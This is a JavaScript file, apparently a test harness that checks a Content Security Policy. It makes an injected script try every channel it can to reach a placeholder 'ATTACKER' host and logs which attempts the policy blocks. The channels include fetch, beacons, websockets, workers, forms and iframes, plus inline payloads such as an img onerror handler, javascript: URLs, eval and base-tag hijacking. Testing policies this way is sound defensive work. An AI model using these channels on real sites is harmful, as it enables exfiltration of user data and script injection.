// Tries to send a request to ATTACKER in every way that an injected script has, each with its own path.
const to = (way) => `ATTACKER/${way}`;
const code = (way) => `fetch('${to(way)}', { mode: 'no-cors' })`;
const make = (tag, attributes = {}, parent = document.body) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  parent.append(element);
  return element;
};
const script = (text) => (make("script").textContent = text);
const frame = (name) => make("iframe", { name });
const ways = {
  fetch: () => fetch(to("fetch"), { mode: "no-cors" }),
  xhr: () => { const xhr = new XMLHttpRequest(); xhr.open("POST", to("xhr")); xhr.send("x"); },
  beacon: () => navigator.sendBeacon(to("beacon"), "x"),
  websocket: () => new WebSocket(to("websocket").replace("http", "ws")),
  "event-source": () => new EventSource(to("event-source")),
  image: () => (new Image().src = to("image")),
  "script-src": () => make("script", { src: to("script-src") }),
  module: () => make("script", { type: "module", src: to("module") }),
  import: () => import(to("import")).catch(() => {}),
  stylesheet: () => make("link", { rel: "stylesheet", href: to("stylesheet") }),
  preload: () => make("link", { rel: "preload", as: "image", href: to("preload") }),
  prefetch: () => make("link", { rel: "prefetch", href: to("prefetch") }),
  iframe: () => make("iframe", { src: to("iframe") }),
  object: () => make("object", { data: to("object") }),
  embed: () => make("embed", { src: to("embed") }),
  video: () => make("video", { src: to("video") }),
  poster: () => make("video", { poster: to("poster") }),
  font: () => new FontFace("x", `url(${to("font")})`).load().catch(() => {}),
  ping: () => make("a", { href: "#x", ping: to("ping") }).click(),
  form: () => { frame("one"); make("form", { action: to("form"), target: "one", method: "post" }).submit(); },
  "blob-worker": () => new Worker(URL.createObjectURL(new Blob([code("blob-worker")]))),
  "data-worker": () => new Worker(`data:text/javascript,${encodeURIComponent(code("data-worker"))}`),
  "style-attribute": () => make("p", { style: `background: url(${to("style-attribute")})` }),
  "style-object": () => (make("p").style.background = `url(${to("style-object")})`),
  "style-element": () => (make("style").textContent = `body { background: url(${to("style-element")}) }`),
  "style-import": () => (make("style").textContent = `@import url(${to("style-import")})`),
  "inline-script": () => script(code("inline-script")),
  "inline-handler": () => make("p", { onclick: code("inline-handler") }).click(),
  "image-handler": () => (make("p").innerHTML = `<img src=x onerror="${code("image-handler")}">`),
  srcdoc: () => make("iframe", { srcdoc: `<script>${code("srcdoc")}</script>` }),
  "javascript-frame": () => make("iframe", { src: `javascript:${code("javascript-frame")}` }),
  "javascript-link": () => make("a", { href: `javascript:void ${code("javascript-link")}` }).click(),
  eval: () => window.eval(code("eval")),
  function: () => new Function(code("function"))(),
  timeout: () => setTimeout(code("timeout"), 0),
  // Last: it changes the meaning of relative addresses, and an image resolves its address later.
  base: () => { const base = make("base", { href: to("") }); new Image().src = "base"; setTimeout(() => base.remove()); },
};
window.violations = [];
window.thrown = [];
addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
for (const [way, go] of Object.entries(ways)) {
  try {
    const result = go();
    result?.catch?.(() => {});
  } catch {
    thrown.push(way);
  }
}
return Object.keys(ways);
